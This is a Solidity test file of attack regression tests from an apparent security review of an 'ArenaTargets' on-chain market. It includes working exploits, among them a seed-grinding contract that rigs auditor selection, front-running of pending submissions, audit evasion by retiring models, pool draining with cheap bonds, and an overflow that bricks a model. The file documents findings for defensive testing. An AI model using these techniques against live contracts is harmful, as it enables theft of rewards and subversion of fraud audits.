// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {ArenaTargets} from "../../targets/ArenaTargets.sol";
import {IArenaTargets} from "../../targets/IArenaTargets.sol";
import {TargetsSetup} from "./ArenaTargets.t.sol";

/// @dev A contract "node" that opens the epoch only when the draw suits it (the auditor of its fill is a friend).
contract SeedGrinder {
    error Unfavourable(address auditor);

    ArenaTargets internal immutable market;
    address internal immutable friend;
    uint256 internal immutable targetId;

    constructor(ArenaTargets market_, address friend_, uint256 targetId_) {
        market = market_;
        friend = friend_;
        targetId = targetId_;
    }

    function tryOpen() external {
        market.openEpoch();
        address auditor = market.auditorOf(targetId);
        if (auditor != friend) revert Unfavourable(auditor);
    }
}

/// @notice Attack tests of the review at bec893b (issue 10): on that code every one of them SUCCEEDS.
/// They are kept as documentation of the attacks; the fixed contract makes each fail (see the same names).
contract ArenaTargetsAttackTest is TargetsSetup {
    function setUp() public {
        _deploy();
    }

    function _status(uint256 id) internal view returns (IArenaTargets.TargetStatus status) {
        (, , , status, ) = market.targets(id);
    }

    function _cheat(uint256 id) internal view returns (IArenaTargets.SubmitParams memory p) {
        p = _params(id, _pack(market.targetEmbedding(id)), 0, 1);
    }

    /// C3: one address fills every target of an epoch (each fill spawns another), for 0.01 token a fill.
    function test_attack_OneAddressFillsEveryTargetOfAnEpoch() public {
        uint256 before = token.balanceOf(address(this));
        uint256 fills;
        for (uint256 id = 1; id <= market.targetCount(); ++id) {
            if (_status(id) != IArenaTargets.TargetStatus.Open) continue;
            market.submit(_cheat(id));
            ++fills;
        }
        // bec893b: the whole 5,000-token pool is reserved by one address: 50 fills for 0.5 token of bonds.
        assertEq(fills, 50, "fills by one address");
        assertEq(market.pool(), 0, "pool left");
        assertEq(before - token.balanceOf(address(this)), 50 * 0.01 ether, "bonds paid");
    }

    /// C3: retiring every model makes openEpoch revert, so nobody can audit and the fraud claims in full.
    function test_attack_RetireEveryModelToSkipTheAudit() public {
        for (uint256 id = 1; id <= 3; ++id) market.submit(_cheat(id));
        vm.warp(block.timestamp + 1 days);
        for (uint256 m = 1; m <= 3; ++m) market.retireModel(m);
        vm.expectRevert(IArenaTargets.NoActiveModels.selector);
        market.openEpoch();
        vm.prank(validatorSet[0]);
        vm.expectRevert(abi.encodeWithSelector(IArenaTargets.EpochNotOpen.selector, 2));
        market.report(1);
        vm.warp(block.timestamp + 1 days);
        uint256 before = token.balanceOf(address(this));
        for (uint256 id = 1; id <= 3; ++id) market.claim(id);
        // bec893b: 300 tokens of reward (submitter + model owner) and the bonds back, unaudited.
        assertEq(token.balanceOf(address(this)) - before, 300 ether + 3 * 0.01 ether, "unaudited claim");
    }

    /// C3: only the drawn auditor may open a report; an honest validator that sees the fraud cannot.
    function test_attack_OnlyTheDrawnAuditorCanReport() public {
        market.submit(_cheat(1));
        vm.warp(block.timestamp + 1 days);
        market.openEpoch();
        address auditor = market.auditorOf(1);
        address honest = validatorSet[0] == auditor ? validatorSet[1] : validatorSet[0];
        vm.prank(honest);
        vm.expectRevert(abi.encodeWithSelector(IArenaTargets.NotAuditor.selector, 1, honest, auditor));
        market.report(1);
    }

    /// C3: a validator's withdrawal reorders the list that auditorOf walks, so it changes who audits.
    function test_attack_WithdrawalReordersTheAuditors() public {
        address leaver = address(0xB0);
        token.transfer(leaver, 1000 ether);
        vm.startPrank(leaver);
        token.approve(address(market), type(uint256).max);
        market.joinValidators(1000 ether);
        market.exitValidators();
        vm.stopPrank();
        // Move the leaver to the front: A1 leaves and rejoins behind it, so the list is [leaver, A2, A3, A1].
        vm.prank(validatorSet[0]);
        market.exitValidators();
        vm.warp(block.timestamp + 2 days);
        market.openEpoch();
        vm.prank(validatorSet[0]);
        market.withdrawValidatorStake();
        vm.startPrank(validatorSet[0]);
        market.joinValidators(1000 ether);
        vm.stopPrank();
        // Fills of epoch 3 are audited in epoch 4.
        uint256 first = market.targetCount() - 2;
        uint256 last = first + 2;
        for (uint256 id = first; id <= last; ++id) market.submit(_cheat(id));
        vm.warp(block.timestamp + 1 days);
        market.openEpoch();
        address[] memory auditors = new address[](last + 1);
        for (uint256 id = first; id <= last; ++id) auditors[id] = market.auditorOf(id);
        vm.prank(leaver);
        market.withdrawValidatorStake();
        uint256 changed;
        for (uint256 id = first; id <= last; ++id) if (market.auditorOf(id) != auditors[id]) ++changed;
        // bec893b: the leaver (not even eligible) changed who audits some of the fills.
        assertTrue(changed > 0, "a withdrawal changed the auditors");
    }

    /// H2: a contract that reverts on unfavourable draws retries openEpoch each block until its friend audits it.
    function test_attack_GrindTheSeedUntilAFriendAudits() public {
        market.submit(_cheat(1));
        SeedGrinder grinder = new SeedGrinder(market, validatorSet[0], 1);
        vm.warp(block.timestamp + 1 days);
        bool won;
        for (uint256 i; i < 40 && !won; ++i) {
            vm.roll(block.number + 1);
            vm.prevrandao(keccak256(abi.encode(i)));
            try grinder.tryOpen() {
                won = true;
            } catch {}
        }
        // bec893b: within a few blocks the grinder opened the epoch with its friend as the auditor.
        assertTrue(won, "grinder found a favourable seed");
        assertEq(uint160(market.auditorOf(1)), uint160(validatorSet[0]), "friend audits");
    }

    /// M2: a mempool watcher copies a pending submission (URI, hash, embedding) and lands first.
    function test_attack_CopyAPendingSubmission() public {
        IArenaTargets.SubmitParams memory victims = _cheat(1);
        address copier = address(0xC0);
        token.transfer(copier, 1000 ether);
        vm.startPrank(copier);
        token.approve(address(market), type(uint256).max);
        market.submit(victims);
        vm.stopPrank();
        (address submitter, , , , , , , , , , ) = market.submissions(1);
        // bec893b: the copier filled the target with the victim's data; the victim's own tx now reverts.
        assertEq(uint160(submitter), uint160(copier), "copier fills");
        vm.expectRevert(
            abi.encodeWithSelector(IArenaTargets.TargetNotOpen.selector, 1, IArenaTargets.TargetStatus.Filled)
        );
        market.submit(victims);
    }

    /// M3: one submission with loss 2^64 − 1 makes every later submission naming that model revert.
    function test_attack_LossOverflowBricksAModel() public {
        IArenaTargets.SubmitParams memory p = _cheat(1);
        p.loss = type(uint64).max;
        market.submit(p);
        uint16 model = p.modelId;
        uint256 blocked;
        for (uint256 id = 2; id <= market.targetCount(); ++id) {
            IArenaTargets.SubmitParams memory q = _cheat(id);
            if (!_hasModel(id, model)) continue;
            q.modelId = model;
            try market.submit(q) {} catch {
                ++blocked;
                break;
            }
        }
        // bec893b: the model's lossSum overflows (panic 0x11) on its next win.
        assertEq(blocked, 1, "next submission naming the model reverts");
    }

    function _hasModel(uint256 id, uint16 model) internal view returns (bool) {
        uint16[] memory ms = market.targetModels(id);
        for (uint256 i; i < ms.length; ++i) if (ms[i] == model) return true;
        return false;
    }
}
